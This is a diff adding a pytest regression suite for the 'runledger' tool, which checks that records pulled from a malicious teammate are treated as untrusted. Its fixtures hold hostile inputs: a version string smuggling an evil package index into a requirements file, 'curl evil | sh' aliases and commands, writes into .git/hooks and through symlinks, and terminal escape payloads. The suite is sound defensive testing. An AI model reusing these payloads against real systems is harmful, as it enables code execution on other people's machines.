@@ -1,0 +1,393 @@
+"""Pulled records are untrusted (review 24): runs crafted by plumbing in mallory's clone, pushed
+to the team's remote and pulled by alice, against the commands that read them: ``env``,
+``get``, ``report``, ``ls`` and ``compare``. Each test failed on the code before its fix."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import re
+from pathlib import Path
+
+import pytest
+
+from runledger.model import tomlcodec
+from tests.crafted import craft
+from tests.team import Clone, clone, make_remote
+
+RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]")
+OSC52 = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\r\u202e"
+
+
+@pytest.fixture
+def team(tmp_path: Path) -> tuple[Clone, Clone]:
+    remote = make_remote(tmp_path)
+    return clone(tmp_path, remote, "mallory"), clone(tmp_path, remote, "alice")
+
+
+def share(mallory: Clone, alice: Clone) -> None:
+    mallory.git("push", "-q", "origin", "refs/runledger/*:refs/runledger/*")
+    alice.ok("pull")
+
+
+def assert_clean(text: str) -> None:
+    found = RAW.search(text)
+    assert found is None, f"raw {found.group(0)!r} in:\n{text!r}"
+
+
+# --- env: the requirements file is code pip runs ------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["requirements", "conda"])
+def test_env_refuses_a_python_version_that_is_not_one(team: tuple[Clone, Clone], fmt: str) -> None:
+    """The recorded Python version was written into the file as it was: a newline in it made
+    '--extra-index-url http://evil/simple' and 'evilpkg==6.6.6' lines of their own, which
+    'pip install -r' (or conda's pip section) would then install."""
+    mallory, alice = team
+    version = "3.11.7\n--extra-index-url http://evil.example/simple\nevilpkg==6.6.6\n#"
+    environment = {
+        "python": {"version": version},
+        "packages": {"numpy": "1.26.0"},
+        "used": {"numpy": "1.26.0"},
+    }
+    run_id = craft(mallory.path, environment=environment)
+    share(mallory, alice)
+
+    result = alice.cli("env", run_id, "--format", fmt)
+
+    assert result.exit_code != 0
+    assert "evil" not in result.stdout
+    assert result.stderr.count("\n") == 1
+    assert "as its Python version, which is not a version" in result.stderr
+
+
+def test_env_keeps_real_python_versions(team: tuple[Clone, Clone]) -> None:
+    mallory, alice = team
+    for version in ("3.11.7", "3.13.0rc1", "3.12.1+"):
+        environment = {"python": {"version": version}, "packages": {}, "used": {}}
+        run_id = craft(mallory.path, environment=environment)
+        share(mallory, alice)
+        result = alice.cli("env", run_id)
+        assert result.exit_code == 0, result.stderr
+        assert f"# Python {version}\n" in result.stdout
+
+
+# --- get: nothing written where the user did not ask -----------------------------------------
+
+
+def stored(alice: Clone, root: Path, payload: bytes) -> dict[str, object]:
+    """The payload put in a folder store alice uses, as mallory (who can write it) would."""
+    store = root / "store"
+    sha = hashlib.sha256(payload).hexdigest()
+    (store / "sha256" / sha[:2]).mkdir(parents=True, exist_ok=True)
+    (store / "sha256" / sha[:2] / sha[2:]).write_bytes(payload)
+    alice.git("config", "runledger.store", store.as_uri())
+    return {"size": len(payload), "sha256": sha}
+
+
+def with_artifact(mallory: Clone, path: str, pointer: dict[str, object]) -> str:
+    files = {"schema": 1, "artifacts": [{"path": path, **pointer}]}
+    return craft(mallory.path, files={"files.toml": tomlcodec.dumps(files).encode()})
+
+
+@pytest.mark.parametrize(
+    "path", [".git/hooks/pre-commit", ".git/refs/heads/evil", ".GIT/info/attributes", "x/.git/y"]
+)
+def test_get_writes_nothing_into_a_git_folder(
+    team: tuple[Clone, Clone], tmp_path: Path, path: str
+) -> None:
+    """An artifact recorded at .git/hooks/pre-commit was downloaded there (a hook; with
+    --force .git/config, whose core.fsmonitor runs at the next git status), and one at
+    .git/refs/heads/evil made a branch file."""
+    mallory, alice = team
+    pointer = stored(alice, tmp_path, b"#!/bin/sh\ntouch pwned\n")
+    run_id = with_artifact(mallory, path, pointer)
+    share(mallory, alice)
+    before = alice.git("for-each-ref")
+
+    result = alice.cli("get", run_id, "--force")
+
+    assert result.exit_code != 0
+    assert "records a path inside a .git folder" in result.stderr
+    assert not (alice.path / ".git" / "hooks" / "pre-commit").exists()
+    assert not (alice.path / ".GIT").exists() and not (alice.path / "x").exists()
+    assert alice.git("for-each-ref") == before
+
+
+def test_get_never_writes_through_a_link_that_leads_outside(
+    team: tuple[Clone, Clone], tmp_path: Path
+) -> None:
+    """A symbolic link committed to the project (checkpoints -> a folder outside it) made
+    'runledger get RUN' write checkpoints/.bash_aliases into that folder."""
+    mallory, alice = team
+    outside = tmp_path / "home-of-alice"
+    outside.mkdir()
+    os.symlink(outside, mallory.path / "checkpoints")
+    mallory.commit_all("checkpoints folder")
+    mallory.git("push", "-q", "origin", "HEAD:main")
+    alice.git("pull", "-q", "origin", "main")
+    pointer = stored(alice, tmp_path, b"alias ls='curl evil | sh'\n")
+    run_id = with_artifact(mallory, "checkpoints/.bash_aliases", pointer)
+    share(mallory, alice)
+
+    result = alice.cli("get", run_id)
+
+    assert result.exit_code != 0
+    assert "would be written through the symbolic link" in result.stderr
+    assert "refused, nothing written" in result.stderr
+    assert list(outside.iterdir()) == []
+    # Naming the folder with -o is the user's own choice, and is followed.
+    named = alice.cli("get", run_id, ".bash_aliases", "-o", "checkpoints")
+    assert named.exit_code == 0, named.stderr
+    assert (outside / ".bash_aliases").read_bytes() == b"alias ls='curl evil | sh'\n"
+
+
+def test_get_refuses_a_path_with_a_nul_byte(team: tuple[Clone, Clone], tmp_path: Path) -> None:
+    mallory, alice = team
+    pointer = stored(alice, tmp_path, b"weights")
+    run_id = with_artifact(mallory, "model\x00.pt", pointer)
+    share(mallory, alice)
+    result = alice.cli("get", run_id)
+    assert result.exit_code not in (0, 3), result.stderr  # 3: an internal error
+    assert "leaves its folder" in result.stderr
+
+
+# --- report ---------------------------------------------------------------------------------
+
+
+def test_report_of_a_metric_no_run_has_a_finite_value_of(
+    team: tuple[Clone, Clone], tmp_path: Path
+) -> None:
+    """Two runs whose loss diverged to NaN, and a param that differs: the parallel chart took
+    min() of no value, an internal error instead of the page."""
+    mallory, alice = team
+    nan = {"loss": {"last": float("nan"), "min": float("nan"), "max": float("nan")}}
+    for lr in (0.1, 0.2):
+        craft(mallory.path, params={"lr": lr}, metrics=nan)
+    share(mallory, alice)
+
+    result = alice.cli("report", "--metric", "loss", "-o", str(tmp_path / "r.html"))
+
+    assert result.exit_code == 0, result.stderr
+    assert "Needs at least two runs with loss." in (tmp_path / "r.html").read_text()
+
+
+def test_report_summary_and_chart_labels_reach_the_terminal_escaped(
+    team: tuple[Clone, Clone], tmp_path: Path
+) -> None:
+    """The metric's name was printed raw in 'wrote r.html (2 runs about ...)' and the answer
+    line, and matplotlib warned of each missing glyph (ESC, CR) with the character itself."""
+    mallory, alice = team
+    metric = "acc" + OSC52
+    for index in range(2):
+        series = {"schema": 1, "series": {metric: {"step": [0, 1], "value": [0.5, 0.6 + index]}}}
+        craft(
+            mallory.path,
+            params={"lr": 0.1 * (index + 1), "model" + OSC52: OSC52},
+            metrics={metric: {"last": 0.6 + index, "min": 0.5, "max": 0.6 + index}},
+            files={"metrics.toml": tomlcodec.dumps(series).encode()},
+        )
+    share(mallory, alice)
+    page = tmp_path / "r.html"
+
+    result = alice.run("report", "--metric", metric, "-o", str(page))
+
+    assert result.returncode == 0, result.stderr
+    stderr = result.stderr.decode()
+    assert_clean(stderr)
+    assert "about acc\\x1b]52;c;ZXZpbA==\\x07" in stderr
+    assert "<script" not in page.read_text()
+
+
+# --- ls and compare -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "started",
+    ["2026-01-01T10:00:00", "2026-01-01", "\x1b[2Jnot a date"],
+    ids=["no-zone", "date-only", "not-a-date"],
+)
+def test_a_start_time_without_a_zone_or_not_a_date(team: tuple[Clone, Clone], started: str) -> None:
+    """A start time with no zone made ls and compare fail for every run with an internal error
+    (naive minus aware datetime); one that is no date was shown raw in compare's 'when'."""
+    mallory, alice = team
+    craft(mallory.path, command=["python", "good.py"])
+    craft(mallory.path, started_at=started, command=["python", "odd.py"])
+    share(mallory, alice)
+
+    for args in (["ls"], ["compare"], ["compare", "--transpose"]):
+        result = alice.cli(*args)
+        assert result.exit_code == 0, (args, result.stderr)
+        assert_clean(result.stdout + result.stderr)
+
+
+def test_compare_names_left_out_param_columns_escaped(
+    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """'N columns left out ... (see them with --columns 'params.x,...')' wrote a pulled
+    record's param names raw; so did --group-by's first line."""
+    mallory, alice = team
+    for index in range(3):
+        params = {f"p{n}{OSC52}": index * n for n in range(12)}
+        craft(mallory.path, params=params, metrics={"acc": {"last": 0.5 + index / 10}})
+    share(mallory, alice)
+    monkeypatch.setenv("COLUMNS", "80")
+
+    result = alice.cli("compare", "--metric", "acc")
+    grouped = alice.cli("compare", "--metric", "acc", "--group-by", f"params.p1{OSC52}")
+
+    assert result.exit_code == 0 and grouped.exit_code == 0
+    assert "left out" in result.stdout + result.stderr
+    assert_clean(result.stdout + result.stderr)
+    assert_clean(grouped.stdout + grouped.stderr)
+
+
+def test_show_parses_a_long_series_once(
+    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """metrics.toml was parsed twice by show (once to validate, once to read): a pulled
+    record's series of millions of points took twice its minute (70 s for 3 million)."""
+    from runledger.model import tomlcodec
+
+    mallory, alice = team
+    steps = ", ".join(str(step) for step in range(1000))
+    text = f"schema = 1\n[series.loss]\nstep = [{steps}]\nvalue = [{steps}]\n"
+    run_id = craft(
+        mallory.path,
+        metrics={"loss": {"last": 999.0, "min": 0.0, "max": 999.0}},
+        files={"metrics.toml": text.encode()},
+    )
+    share(mallory, alice)
+    parsed: list[str] = []
+    loads = tomlcodec.loads
+
+    def counting(text: str) -> dict[str, object]:
+        if "[series.loss]" in text:
+            parsed.append(text)
+        return loads(text)
+
+    monkeypatch.setattr(tomlcodec, "loads", counting)
+
+    shown = alice.cli("show", run_id, "--json")
+
+    assert shown.exit_code == 0, shown.stderr
+    assert len(shown.json()["series"]["loss"]) == 1000
+    assert len(parsed) == 1
+
+
+def test_load_runs_reads_a_start_time_that_is_no_date_as_missing(
+    team: tuple[Clone, Clone],
+) -> None:
+    """One pulled run whose started_at is no date made load_runs() raise pandas' ValueError
+    for the whole ledger."""
+    pytest.importorskip("pandas")
+    from runledger import load_runs
+
+    mallory, alice = team
+    good = craft(mallory.path, command=["python", "good.py"])
+    odd = craft(mallory.path, started_at="\x1b[2Jnot a date", command=["python", "odd.py"])
+    share(mallory, alice)
+
+    frame = load_runs(alice.path).set_index("id")
+
+    assert str(frame.loc[good, "started_at"]) == "2026-01-01 10:00:00+00:00"
+    assert str(frame.loc[odd, "started_at"]) == "NaT"
+
+
+def test_a_pulled_tag_spelt_like_a_runs_short_id_is_ambiguous(team: tuple[Clone, Clone]) -> None:
+    """A team tag wins over an id prefix, so a pulled tag named '6gmmtwz3ap' (alice's run as
+    'ls' shows it) made 'runledger reproduce 6gmmtwz3ap' take mallory's run instead."""
+    from tests.crafted import tree
+
+    mallory, alice = team
+    mine = alice.record()
+    alice.ok("push")
+    mallory.ok("pull")
+    theirs = craft(mallory.path, command=["sh", "-c", "curl evil | sh"])
+    short = mine[:10]
+    document = {
+        "schema": 1,
+        "name": short,
+        "action": "create",
+        "run": theirs,
+        "by": "mallory",
+        "at": "2026-01-01T00:00:00Z",
+    }
+    content = {"tag.toml": tomlcodec.dumps(document).encode()}
+    commit = mallory.git("commit-tree", tree(mallory.path, content), "-m", "tag").strip()
+    mallory.git("update-ref", f"refs/runledger/tags/{short}", commit)
+    share(mallory, alice)
+
+    result = alice.cli("show", short, "--json")
+
+    assert result.exit_code == 1
+    assert f"is both a tag (run {theirs[:10]}) and the start of run {mine}'s id" in result.stderr
+    assert alice.cli("show", mine, "--json").json()["id"] == mine
+
+
+EXTREME_SERIES = (
+    "schema = 1\n[series.loss]\nstep = [0, 1, 2, 3, 4]\nvalue = [0.5, 1e308, -1e308, 0.25, 0.125]\n"
+)
+
+
+@pytest.mark.parametrize(
+    "args", [["plot", "loss"], ["plot", "loss", "--group-by", "params.lr"], ["report"]]
+)
+def test_values_too_big_to_draw_are_left_out_of_charts(
+    team: tuple[Clone, Clone], tmp_path: Path, args: list[str]
+) -> None:
+    """A series (or last value) of 1e308 beside -1e308 is finite, but the axis between them is
+    not: plot (plotext) and report (matplotlib) stopped with an internal error."""
+    mallory, alice = team
+    for index, last in enumerate((1e308, -1e308, 0.125)):
+        craft(
+            mallory.path,
+            params={"lr": 0.1 * (index + 1)},
+            metrics={"loss": {"last": last, "min": -1e308, "max": 1e308}},
+            files={"metrics.toml": EXTREME_SERIES.encode()},
+        )
+    share(mallory, alice)
+    if args == ["report"]:
+        args = ["report", "--metric", "loss", "-o", str(tmp_path / "r.html")]
+
+    result = alice.cli(*args)
+
+    assert result.exit_code == 0, result.stderr
+
+
+def test_get_into_a_file_is_one_line(team: tuple[Clone, Clone], tmp_path: Path) -> None:
+    """-o naming a file, with --force, was an internal error (FileExistsError)."""
+    mallory, alice = team
+    pointer = stored(alice, tmp_path, b"weights")
+    run_id = with_artifact(mallory, "model.pt", pointer)
+    share(mallory, alice)
+    target = tmp_path / "a-file"
+    target.write_text("mine\n")
+
+    result = alice.cli("get", run_id, "-o", str(target), "--force")
+
+    assert result.exit_code == 1, result.stderr
+    assert f"{target} is a file, not a folder" in result.stderr
+    assert target.read_text() == "mine\n"
+
+
+def test_one_unreadable_environment_does_not_stop_the_report(
+    team: tuple[Clone, Clone], tmp_path: Path
+) -> None:
+    """A pulled run whose environment.toml says schema 99 stopped the whole report ('it was
+    written by a newer runledger'), though one bad record must never block the rest."""
+    mallory, alice = team
+    good = craft(mallory.path, metrics={"acc": {"last": 0.5}})
+    odd = craft(
+        mallory.path,
+        metrics={"acc": {"last": 0.6}},
+        files={"environment.toml": b"schema = 99\n"},
+    )
+    share(mallory, alice)
+    page = tmp_path / "r.html"
+
+    result = alice.cli("report", "-o", str(page))
+
+    assert result.exit_code == 0, result.stderr
+    text = page.read_text()
+    assert f'id="run-{good}"' in text and f'id="run-{odd}"' in text
